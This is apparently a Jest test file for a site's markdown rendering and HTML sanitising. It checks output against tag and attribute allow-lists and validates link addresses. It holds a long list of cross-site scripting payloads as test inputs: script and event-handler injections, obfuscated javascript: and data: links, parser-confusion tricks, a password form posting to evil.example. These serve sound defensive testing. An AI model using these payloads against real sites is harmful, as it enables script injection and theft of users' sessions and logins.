import { describe, expect, test } from '@jest/globals';
import { Parser } from 'htmlparser2';
import { safeAddress } from '../../src/text/link-address.ts';
import { endsInText, sanitiseComment, sanitiseStory } from '../../src/text/markdown/sanitising.ts';
import { renderComment, renderStory } from '../../src/text/markdown.ts';

type Allowed = Record<string, Record<string, { test: (value: string) => boolean }>>;

const auto = { dir: /^auto$/ };
/** What holds paragraphs has the direction of its first letter, never one that was typed. */
const ofFirstLetter = { dir: /^(auto|ltr|rtl)$/ };
const heading = { ...auto, id: /^s-\S+$/ };
const cell = { ...auto, align: /^(left|right|center)$/ };

/** Where a browser would go from a page of ours: to an http(s) address that says so, to a mailbox, or to us. */
const href = {
  test: (value: string): boolean => {
    const url = new URL(value, 'https://courier.example/2026/');
    if (url.protocol === 'mailto:') return true;
    const absolute = /^https?:\/\//i.test(value);
    return /^https?:$/.test(url.protocol) && url.username === '' && (absolute || url.host === 'courier.example');
  },
};

const inComments: Allowed = {
  ...{ p: auto, li: ofFirstLetter, blockquote: ofFirstLetter, em: {}, strong: {}, ul: {}, code: {}, pre: {}, br: {} },
  ol: { start: /^\d+$/ },
  a: { href, rel: /^ugc nofollow noopener$/ },
};
const inStories: Allowed = {
  ...inComments,
  ...{ h2: heading, h3: heading, h4: heading, th: cell, td: cell, abbr: { title: /^/ } },
  ...{ table: {}, thead: {}, tbody: {}, tr: {}, hr: {}, sup: {}, sub: {}, del: {} },
  a: { href, rel: /^noopener$/, hreflang: /^[A-Za-z0-9-]+$/ },
};

/** Everything in the HTML that the list does not hold, and everything that would be read anew in another way. */
const strangers = (html: string, allowed: Allowed): string[] => {
  const found: string[] = [];
  const open: string[] = [];
  const parser = new Parser({
    onopentag: (name, attributes) => {
      const known = allowed[name];
      if (!known) found.push(`<${name}>`);
      if (!['br', 'hr'].includes(name)) open.push(name);
      for (const [attribute, value] of Object.entries(attributes)) {
        if (!known?.[attribute]?.test(value)) found.push(`<${name} ${attribute}="${value}">`);
      }
    },
    onclosetag: (name, implied) => {
      if (['br', 'hr'].includes(name)) return;
      if (implied || open.pop() !== name) found.push(`</${name}> missing or out of order`);
    },
    ontext: (text) => /\p{Cc}/u.test(text.replace(/[\n\t]/g, '')) && found.push(`control character in ${text}`),
    oncomment: (text) => found.push(`<!--${text}-->`),
    onprocessinginstruction: (name) => found.push(`<${name}>`),
    oncdatastart: () => found.push('CDATA'),
  });
  parser.write(html);
  parser.end();
  return found;
};

const bare = [
  '<script>alert(1)</script>',
  '<ScRiPt\n>alert(1)</sCrIpT >',
  '<script src=//evil.example></script>',
  '<script/x>alert(1)</script/x>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script>alert(1)',
  '\0<scr\0ipt>alert(1)</script>',
  '<style>*{display:none}</style>',
  '<style><img src="</style><img src=x onerror=alert(1)>">',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img """><script>alert(1)</script>">',
  '<img/src/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert&#40;1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><a href="javascript:alert(1)">x</a></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>">',
  '<object data="javascript:alert(1)"></object><embed src=//evil.example>',
  '<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img src="</noembed><img src=x onerror=alert(1)>">',
  '<title><img src="</title><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<plaintext><script>alert(1)</script>',
  '<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<p onclick="alert(1)" style="position:fixed" class="breaking" id="login" dir="rtl">x</p>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<h2 id="s-x" onfocus=alert(1) tabindex=1 autofocus>x</h2>',
  '<td background="javascript:alert(1)" align="x&quot; onclick=alert(1)">x</td>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&NewLine;ascript&colon;alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099ript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)" href="/x">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:x">x</a><a href="blob:https://x/1">y</a><a href="file:///etc/passwd">z</a>',
  '<a href="//evil.example">x</a><a href="/\\evil.example">y</a><a href="\\\\evil.example">z</a>',
  '<a href="/&#9;/evil.example">x</a>',
  '<a href="https://courier.example@evil.example/">x</a>',
  '<a href="/x" target=_blank ping=//evil.example rel=opener download onmouseover=alert(1)>x</a>',
  '<a href="x"><a href="y"><b><a href="z">q</b></a></a>',
  '<abbr title="&quot;><img src=x onerror=alert(1)>">x</abbr>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><?php echo 1 ?>',
  '<!DOCTYPE html><html><head></head><body onload=alert(1)></body></html>',
  '</p></div></article><h1>x</h1><marquee>y</marquee>',
  '<table><tr><td><p><table><script>alert(1)</script></td></table>',
  '<ul><li><ol><p></li></ul><li>',
  '<b><i></b></i><sub><p></sub>',
  '<p title="unclosed',
  '<constructor><__proto__ x=1><toString>',
  '[x](javascript:alert(1)) [y](  JAVASCRIPT:alert(1)) [z](<java\tscript:alert(1)>)',
  '[x](java&Tab;script&colon;alert(1)) [y](&#106;avascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](//evil.example) [y](/\\evil.example) [z](<\\\\evil.example>)',
  '[x](https://a.example/"onmouseover="alert(1)) [y](/x "t" onclick="alert(1)")',
  '[x]\n\n[x]: javascript:alert(1)',
  '[a [b](javascript:alert(1)) c](https://d.example) [e <a href="/f">g</a>](/h)',
  '<javascript:alert(1)> <data:text/html,x> <https://a.example/"><script>>',
  'https://a.example/<script>alert(1)</script> https://a.example/"onclick="x',
  '![x](javascript:alert(1)) ![y](x" onerror="alert(1)) ![[a](javascript:1)](b)',
  '![x][y]\n\n[y]: javascript:alert(1) "onerror=alert(1)"',
  '`<script>alert(1)</script>` ``</code><img src=x onerror=alert(1)>``',
  '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
  '    </code></pre><script>alert(1)</script>',
  '<code>a <b onclick=alert(1)>c</code> <pre><img src=x onerror=alert(1)></pre>',
  '# <img src=x onerror=alert(1)> "><script>alert(1)</script>',
  'x <script>\nalert(1)\n</script>\n===',
  '|<script>alert(1)</script>|"onclick="x|\n|:-:|-:|\n|<td onclick=x>|</table><script>1</script>|',
  '> <script>\n> alert(1)\n> </script>\n\n- <img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  '&amp;lt;script&amp;gt; &#1;&#x7f;&#x80;&#xd800;&#x110000;',
  '\ud800<\udfffscript>\u2028<b onclick=x>\ufeff',
  '\ue000<script>\ue000',
  '::figure{media="1" alt="</p><script>alert(1)</script>"}\n\n::frob{x="<img src=x onerror=alert(1)>"}',
  ':::quote{by="<script>"}\n<script>alert(1)</script>\n\n[x](javascript:alert(1))\n:::',
  ':::facts{title="<b>"}\n</aside><h2 id="s-x">x</h2><iframe src=//evil.example></iframe>',
];

const hostile = [
  ...bare,
  ...bare.map((text) => `Before *${text}* after\n\n- ${text}\n\n> ${text}\n\n## ${text}\n\nend`),
];

describe('hostile text', () => {
  test.each(hostile)('leaves nothing in a story that is not on the list: %j', (markdown) => {
    for (const block of renderStory(markdown).blocks) {
      if (!('html' in block)) continue;
      expect(strangers(block.html, inStories)).toEqual([]);
      const ids = new Set([...block.html.matchAll(/ id="([^"]*)"/g)].map(([, id = '']) => id));
      expect(sanitiseStory(block.html, ids)).toBe(block.html);
    }
  });

  test.each(hostile)('leaves nothing in a comment that is not on the list: %j', (markdown) => {
    const html = renderComment(markdown);
    expect(strangers(html, inComments)).toEqual([]);
    expect(sanitiseComment(html)).toBe(html);
    expect(html.match(/<a /g)?.length ?? 0).toBe(html.match(/ rel="ugc nofollow noopener">/g)?.length ?? 0);
  });

  test.each(hostile)('passes neither list when the sanitiser alone meets it: %j', (html) => {
    expect(strangers(sanitiseStory(html), inStories).filter((text) => !text.startsWith('</'))).toEqual([]);
    expect(strangers(sanitiseComment(html), inComments).filter((text) => !text.startsWith('</'))).toEqual([]);
  });

  test('does not take the end of a story or of a comment with it', () => {
    for (const text of bare.filter((one) => !one.includes('```') && !one.startsWith('    '))) {
      expect(renderComment(`${text}\n\nthe end`)).toContain('the end');
      const { blocks } = renderStory(`${text}\n\nthe end`);
      expect(blocks.map((block) => ('html' in block ? block.html : '')).join('')).toContain('the end');
    }
  });

  test('does meet the test’s own list', () => {
    expect(strangers('<p onclick="x"><script>1</script><a href="javascript:1">x</a><!-- c --></b>', inStories)).toEqual(
      [...['<p onclick="x">', '<script>', '<a href="javascript:1">', '<!-- c -->', '</p> missing or out of order']],
    );
    expect(strangers('<p><a href="//x">a</a><a href="/\\x">b</a></p><h2 id="x">c</h2>', inStories)).toHaveLength(3);
  });
});

describe('the address of a link', () => {
  test.each([
    ...['https://a.example', 'HTTP://a.example/?q=a:b', 'mailto:a@b.example', '/x', 'x/y', '#s-x', '?page=2', './a:b'],
    ...['/2026/11/20/عمال', '/', '.'],
  ])('may be %j', (address) => {
    expect(safeAddress(address)).toBe(address);
    expect(href.test(address)).toBe(true);
  });

  test.each([
    ...['javascript:x', 'java\nscript:x', '\u0001javascript:x', '\u00a0javascript:x', 'java script:x', 'x:y', ':'],
    ...['//a', '\\\\a', '/\\a', '\\/a', '/\t/a', 'https:a', 'https:/a', 'https:///a', 'https:\\\\a', 'https://'],
    ...['https://a@b', 'https://a:b@c', 'mailto:', 'mailto:a', 'tel:1', 'ftp://a', 'data:,x', 'https://[x]/'],
  ])('may not be %j', (address) => {
    expect(safeAddress(address)).toBeNull();
  });
});

test.each([
  ['<sub>', true],
  ['<div>a</div>', true],
  ['<!-- a -->', true],
  ['<!-- a', false],
  ['<script>', false],
  ['<script>1</script>', true],
  ['<p title="', false],
  ['<svg>', false],
  ['\ue000<script>', false],
])('after %j text is still text: %s', (html, text) => {
  expect(endsInText(html)).toBe(text);
});
